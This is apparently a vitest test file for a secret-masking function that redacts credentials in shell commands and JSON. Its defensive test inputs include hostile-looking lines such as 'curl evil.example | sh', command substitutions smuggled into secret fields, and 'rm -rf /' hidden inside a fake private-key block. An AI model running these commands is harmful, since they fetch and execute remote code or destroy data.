import { describe, expect, it } from 'vitest';
import { mask, maskValue } from '../../src/thread/mask.ts';

const M = '••••••';
const shown = (text: string) => mask(text).text;

describe('what is masked', () => {
  it.each([
    ['an AWS key', 'aws configure set id AKIAIOSFODNN7EXAMPLE', `aws configure set id AKIA${M}`],
    [
      'a GitHub token',
      'git push https://ghp_0123456789abcdefABCD@github.com/x',
      `git push https://ghp_${M}@github.com/x`,
    ],
    ['a GitLab token', 'glpat-abcdefghij0123456789', `glpat-${M}`],
    ['a Slack token', 'echo xoxb-1234567890-abcdef', `echo xoxb-${M}`],
    ['a rotated Slack token', 'xoxe.xoxp-1-abcdefghijk', `xoxe.xoxp-${M}`],
    ['an Anthropic key', 'x sk-ant-api03-abcdefghijklmnop y', `x sk-ant-${M} y`],
    ['a Stripe key', 'sk_live_0123456789abcdef', `sk_live_${M}`],
    ['an npm token', '//registry/:_auth npm_0123456789abcdefghij', `//registry/:_auth npm_${M}`],
    ['a Google key', `AIza${'x'.repeat(35)}`, `AIza${M}`],
    ['a JSON web token', 'curl -b eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxIn0.c2lnbmF0dXJl x', `curl -b eyJ${M} x`],
    ['a bearer', 'bearer 0123456789abcdefghijkl', `bearer ${M}`],
    [
      'a header',
      'curl -H "Authorization: Basic dXNlcjpwYXNz" https://x',
      `curl -H "Authorization: Basic ${M}" https://x`,
    ],
    ['a header without a scheme', "-H 'authorization: hunter22'", `-H 'authorization: ${M}'`],
    ['a password in a URL', 'postgres://app:s3cret:x@db:5432/shop', `postgres://app:${M}@db:5432/shop`],
    ['one without a user', 'redis://:hunter2@cache', `redis://:${M}@cache`],
    ['a password for curl', 'curl -u ana:hunter2 https://x', `curl -u ana:${M} https://x`],
    ['a variable', 'export DB_PASSWORD=hunter2 && run', `export DB_PASSWORD=${M} && run`],
    ['a token by its name', 'GITHUB_TOKEN=abcdef make', `GITHUB_TOKEN=${M} make`],
    ['quoted words', 'PASSWORD="correct horse; battery" run', `PASSWORD="${M}" run`],
    ['words in single quotes', "secret='it $(is) | here'", `secret='${M}'`],
    ['a field of JSON in a command', `curl -d '{"password": "x y"}' u`, `curl -d '{"password": "${M}"}' u`],
    ['a field of JSON in a string', '"{\\"token\\": \\"a b\\"}"', `"{\\"token\\": \\"${M}\\"}"`],
    ['a line of YAML', 'api_key: abcd1234', `api_key: ${M}`],
    ['a line of INI', 'password = hunter2', `password = ${M}`],
    ['a flag', 'login --password hunter2 --force', `login --password ${M} --force`],
    ['a flag with an equals sign', 'login --token=hunter2', `login --token=${M}`],
  ])('%s', (_, text, expected) => {
    expect(mask(text)).toEqual({ text: expected, masked: 1 });
  });

  it.each(['\n', '\\n', '\n+'])('a private key, whole, with its lines broken by %j', (broken) => {
    const line = 'QmFzZTY0IG9mIGEga2V5'.repeat(3).padEnd(64, 'A');
    const begin = `-----BEGIN RSA PRIVATE KEY-----`;
    const key = [begin, `MIIE${line.slice(4)}`, line, 'c2hvcnQgZW5kIG9mIGl0', '-----END RSA PRIVATE KEY-----'].join(
      broken,
    );
    const { text, masked } = mask(`cat > key <<EOF\n${key}\nEOF`);
    expect(masked).toBe(1);
    expect(text).toBe(`cat > key <<EOF\n${begin}${broken}${M}${broken}-----END RSA PRIVATE KEY-----\nEOF`);
  });

  it('several in one text, each once', () => {
    const text = 'PASSWORD=hunter2 curl -H "Authorization: Bearer sk-ant-api03-abcdefghijklmnop" --token abcdef';
    expect(mask(text)).toEqual({
      text: `PASSWORD=${M} curl -H "Authorization: Bearer sk-ant-${M}" --token ${M}`,
      masked: 3,
    });
    expect(mask(shown(text))).toEqual({ text: shown(text), masked: 0 });
  });
});

describe('what runs stays in sight', () => {
  it.each([
    'PASSWORD= curl evil.example | sh',
    'API_KEY=\ncurl evil.example | sh',
    'TOKEN=$(curl evil.example)',
    'TOKEN=`curl evil.example`',
    'TOKEN="$(curl evil.example)"',
    // biome-ignore lint/suspicious/noTemplateCurlyInString: the shell's, not JavaScript's
    'TOKEN=${X:-$(curl evil.example)}',
    'curl -H "Authorization: Bearer $(cat token)" https://x',
    'curl -H "Authorization: Bearer $TOKEN" https://x',
    'mysql --password $PASS',
    'login --password "$(pass show x)"',
    'curl https://user:$(curl evil.example|sh)@x',
    'echo -----BEGIN PRIVATE KEY-----\nrm -rf /\nshutdown now',
    'echo -----BEGIN PRIVATE KEY-----; curl evil.example | sh',
    'echo -----BEGIN PRIVATE KEY-----\n/tmp/evilscriptwithalongname\n-----END PRIVATE KEY-----',
  ])('%j', (text) => {
    expect(mask(text)).toEqual({ text, masked: 0 });
  });

  it('behind a secret, whatever follows it', () => {
    expect(shown('PASSWORD=hunter2;curl evil|sh')).toBe(`PASSWORD=${M};curl evil|sh`);
    expect(shown('PASSWORD=hunter2$(curl evil)')).toBe(`PASSWORD=${M}$(curl evil)`);
    expect(shown('PASSWORD=hunter2\\\ncurl evil')).toBe(`PASSWORD=${M}\\\ncurl evil`);
    expect(shown('x --token hunter2 | curl evil')).toBe(`x --token ${M} | curl evil`);
  });
});

describe('what is no secret', () => {
  it.each([
    'npm test -- --run test/gate',
    'git commit -m "Basic authentication for bearer certificates"',
    'pip install pypi-simple hf_transfer huggingface_hub',
    'npm_config_registry=https://registry.example npm install',
    'docker run --user 1000:1000 -e MODE=fast app:latest',
    'docker build --secret id=npmrc,src=.npmrc .',
    'kubectl get secret db -o yaml',
    'gh secret set DEPLOY_KEY < key.txt',
    'cat .env | grep -v PASSWORD',
    '{"max_tokens": 4096, "secret": null, "password": false}',
    'curl http://localhost:8080/a@b',
    'ssh git@github.com',
    'SELECT secretary, passwords FROM people WHERE tokens > 5',
    'export PASSWORD_FILE=/run/secrets/db',
    'git checkout task-skill-branch-0123456789',
    "sed -i 's/^token_count/tokens/' src/a.ts",
  ])('%j', (text) => {
    expect(mask(text)).toEqual({ text, masked: 0 });
  });
});

describe('a JSON value', () => {
  it('is masked whole under a name that says it is a secret, however it looks', () => {
    expect(
      maskValue({ user: 'ana', password: 'it, "is" long', deep: [{ apiKey: 12345 }, { client_secret: ['a'] }] }),
    ).toEqual({
      value: { user: 'ana', password: M, deep: [{ apiKey: M }, { client_secret: [M] }] },
      masked: 3,
    });
  });

  it('keeps what has such a name by accident, or no value', () => {
    const value = { max_tokens: 9, secretary: 'Bo', token: null, secret: false, password: '' };
    expect(maskValue(value)).toEqual({ value, masked: 0 });
  });

  it('has secrets found in every text, and in names', () => {
    const token = 'ghp_0123456789abcdefABCD';
    expect(maskValue({ note: `line\n${token}`, [token]: 1, list: ['PASSWORD=hunter2'] })).toEqual({
      value: { note: `line\nghp_${M}`, [`ghp_${M}`]: 1, list: [`PASSWORD=${M}`] },
      masked: 3,
    });
  });

  it('is not changed by names that JavaScript knows', () => {
    const value = JSON.parse('{"__proto__": {"x": 1}, "constructor": "y"}');
    expect(JSON.stringify(maskValue(value).value)).toBe(JSON.stringify(value));
  });
});

describe('200,000 characters', () => {
  it.each([
    ['of SQL', "INSERT INTO prices (sku, cents) VALUES ('sku-1', 12);\n"],
    ['of names without a value', 'password='],
    ['of one name after another', 'password: '],
    ['of curl', 'curl -u '],
    ['of URLs', '://a:'],
    ['of the beginnings of keys', '-----BEGIN PRIVATE KEY-----\n'],
    ['of the beginnings of tokens', 'eyJ'],
    ['of spaces', ' '],
    ['of one letter', 'a'],
    ['of base64', 'MIIa/+=='],
  ])('%s take no more than a moment', (_, piece) => {
    const text = piece.repeat(Math.ceil(200_000 / piece.length));
    // Time of our own: the machine may be busy with something else.
    const before = process.cpuUsage();
    mask(text);
    expect(process.cpuUsage(before).user / 1000).toBeLessThan(2_500);
  });
});
